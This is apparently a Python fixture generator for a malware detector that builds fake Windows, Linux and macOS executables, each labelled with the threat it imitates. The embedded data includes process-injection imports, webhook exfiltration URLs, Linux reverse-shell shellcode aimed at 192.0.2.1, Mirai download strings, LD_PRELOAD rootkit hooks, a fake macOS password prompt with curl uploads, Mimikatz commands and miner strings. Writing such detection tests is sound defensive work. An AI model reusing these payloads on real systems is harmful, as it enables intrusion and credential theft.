"""Programs for Windows, Linux and macOS in the shapes that packers, loaders and code generators give them."""

from formats import imports_of, linux_program, mac_program, windows_program
from plain import plain, sample, to_bytes

RUN_ANY = 0xE0000040
UPX = b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\0$Id: UPX 3.96 Copyright (C) 1996-2020 the UPX Team. All Rights Reserved. $\n\0"

for extra in (b"", b"code" * 90, b"3.96\0UPX!\x0d\x09"):
    sample("Windows_Program_Packed", windows_program(b"3.96\0UP" + b"X!\x0d\x24" + extra, (b"UPX0", b"UPX1", b".rsrc"), RUN_ANY))
    sample("Windows_Program_UPX_Mark_Removed", windows_program(extra.replace(b"UPX!", b"ABC!"), (b"UPX0", b"UPX1", b".rsrc"), RUN_ANY))
    sample("Linux_Program_Packed", linux_program(b"\x02UP" + b"X!" + extra + UPX + b"UP" + b"X!\0\0\0"), linux_program(UPX + b"UP" + b"X!" * 1 + b"....UP" + b"X!" + extra, bits=32))
    sample("Linux_Program_UPX_Mark_Removed", linux_program(b"\x02YTS\x99" + UPX + extra.replace(b"UPX!", b"YTS!")), linux_program(b"PROT_EXEC|PROT_WRITE failed.\n\0" + b"x" * 90, bits=32))
for names in ((b".vmp0", b".vmp1"), (b".MPRESS1", b".MPRESS2"), (b".text", b".aspack", b".adata"), (b"", b".themida"), (b".enigma1", b".enigma2"), (b".petite",)):
    sample("Windows_Program_Packed_Against_Analysis", windows_program(b"code", names, RUN_ANY))
for names in (
    ("VirtualAllocEx", "WriteProcess·Memory", "CreateRemote·Thread"),
    ("OpenProcess", "NtMapViewOf·Section", "NtCreateThread·Ex"),
    ("VirtualAllocEx", "NtUnmapViewOf·Section", "WriteProcess·Memory", "SetThread·Context", "ResumeThread"),
    ("NtAllocateVirtual·Memory", "NtWriteVirtual·Memory", "QueueUser·APC"),
):
    sample("Windows_Program_Enters_Others", windows_program(imports_of(*names)))
TOKEN = "A" * 34
for address in (f"https://disc·ord.com/api/web·hooks/123456789012345678/{TOKEN}{TOKEN}", f"https://disc·ordapp.com/api/web·hooks/12345678901234567/{TOKEN}", f"https://api.tele·gram.org/bot123456789:{TOKEN}a/sendDocument"):
    sample("Windows_Program_Sends_To_Chat", windows_program(plain(address).encode()), windows_program(plain(address).encode("utf-16-le")))

START32 = bytes.fromhex("fce8820000006089e531c0648b50308b520c8b52148b72280fb74a2631ffac3c617c022c20c1cf0d01c7e2f2")
OLDER32 = bytes.fromhex("fce8890000006089e531d2648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022c20c1cf0d01c7e2f0")
START64 = bytes.fromhex("fc4883e4f0e8c0000000415141505251564831d265488b5260488b5218488b5220488b72500fb74a4a4d31c94831c0ac3c617c022c2041c1c90d4101c1e2ed")
for code in (START32, OLDER32, START64, b"\xeb\x3c" + START64[14:]):
    sample("Machine_Code_For_Windows", code, windows_program(code), b"\x90" * 40 + code + bytes(200))
for flags in (0xE0000020, 0xE0000060, 0xE00000E0):
    sample("Windows_Program_Tiny_Loader", windows_program(START32[:6], (b".text",), flags), windows_program(b"code", (b"abc", b".rdata"), flags))

DUP64 = bytes.fromhex("6a035e48ffce6a21580f0575f6")
SHELL64 = bytes.fromhex("6a3b589948bb2f62696e2f736800534889e752574889e60f05")
CONNECT64 = bytes.fromhex("6a29589" "96a025f6a015e0f05489748b9020011" "5cc00002015148" "89e66a105a6a2a580f05")
CONNECT32 = bytes.fromhex("31dbf7e3534353" "6a0289e1b066cd80935" "9b03fcd804979f9" "68c0000201680200115c89e1b0665051" "53b30389e1cd80526" "86e2f73" "68682f2f626989e3525389e1b00bcd80")
for code in (CONNECT64 + DUP64 + SHELL64, DUP64 + SHELL64):
    sample("Machine_Code_For_Linux", code, linux_program(code, flags=7, sections=0), b"\x90" * 64 + code)
sample("Machine_Code_For_Linux", CONNECT32, linux_program(CONNECT32, bits=32, flags=7, sections=0))
for code in (DUP64, CONNECT64, b"\x90" * 300):
    sample("Linux_Program_Tiny_Loader", linux_program(code, flags=7, sections=0), linux_program(code, bits=32, flags=7, sections=0))

for strings in (
    ("/dev/watch·dog", "/dev/misc/watch·dog", "/bin/busy·box MIRAI", "TSource Engine Query", "wget http://192.0.2.1/mips"),
    ("/bin/busy·box ECCHI", "enable\0system\0shell\0sh\0", "POST /GponForm/diag_·Form?images/ HTTP/1.1"),
    ("/dev/misc/watch·dog", "UDPRAW", "busy·box wget http://192.0.2.1/a", "ncorrect\0assword\0ogin:\0"),
):
    sample("Linux_Program_Of_Device_Worm", *(linux_program(plain("\0".join(strings)).encode() + b"\0", bits=bits) for bits in (32, 64)))
NAMES = "\0readdir64\0readdir\0dlsym\0/etc/ld.so.pre·load\0/proc/net/tcp\0/proc/self/fd/%d\0"
for hooks in ("fopen64\0unlinkat\0", "lstat\0accept\0", "pam_authenticate\0open\0"):
    sample("Linux_Library_Hides_Things", linux_program(plain(NAMES + hooks).encode(), kind=3), linux_program(plain("\0" + hooks + NAMES).encode(), kind=3, bits=32))

for bits in (32, 64):
    sample("Mac_Program_Changes_Its_Code", mac_program(b"code", 7, bits), bytes.fromhex("cafebabe00000001") + bytes(4088) + mac_program(b"code", 7, bits))
DIALOG = 'display dialog "macOS needs your password" default answer "" with hidden answer'
for rest in (
    "dscl . authonly user pass\0curl -X POST http://192.0.2.1/log -F file=@/tmp/a.zip",
    "security find-generic-password -ga Chrome\0Content-Type: multipart/form-data; boundary=x",
    "/Library/Keychains/login.keychain-db\0curl -d @/tmp/x https://example.com",
):
    text = plain("osascript -e '" + DIALOG + "'\0" + rest)
    sample("Mac_Steals_Passwords", mac_program(text.encode()), text.replace("\0", "\n"))

for strings in (
    ("sekur·lsa::logon·passwords", "lsa·dump::sam", "privilege::de·bug", "gentil·kiwi"),
    ("sekur·lsa", "kerb·eros::golden", "lsa·dump"),
    ("asktgt /user", "kerb·eroast /outfile", "asrep·roast ", "/ticket:"),
):
    text = plain(" \0".join(strings)) + " "
    sample("Program_Dumps_Passwords", windows_program(text.encode()), windows_program(text.encode("utf-16-le")))
    sample("Program_Dumps_Passwords", windows_program(b"x" * 300 + text.encode(), (b".text", b".data")))

for algorithm, speed in (("randomx", "hash·rate"), ("cryptonight", "kH/s"), ("ethash", "mining.subscribe")):
    text = to_bytes(f"strat·um+tcp://%s:%d\0donate-level\0algo {algorithm} \0speed {speed} \0")
    sample("Miner_Program", windows_program(text), linux_program(text), mac_program(text))
